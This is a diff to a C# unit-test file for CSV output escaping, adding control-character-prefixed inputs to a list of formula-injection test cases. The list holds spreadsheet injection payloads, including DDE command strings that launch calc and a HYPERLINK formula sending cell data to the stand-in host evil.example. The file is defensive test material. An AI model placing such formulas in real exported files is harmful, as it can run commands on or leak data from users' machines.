@@ -11,7 +11,7 @@ public sealed class CsvTextTests
     [
         "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
         "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\0=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "＝1+1", "－1", "＋1", "＠A1", "=\"a\r\nb\"", "-", "+", "@", "=",
-        "\ufeff=1+1", "\u200b=1+1", "\u2028=1+1",
+        "\ufeff=1+1", "\u200b=1+1", "\u2028=1+1", "\tplain", "\0plain", "\rplain", "\nplain",
     ];
 
     [Theory]
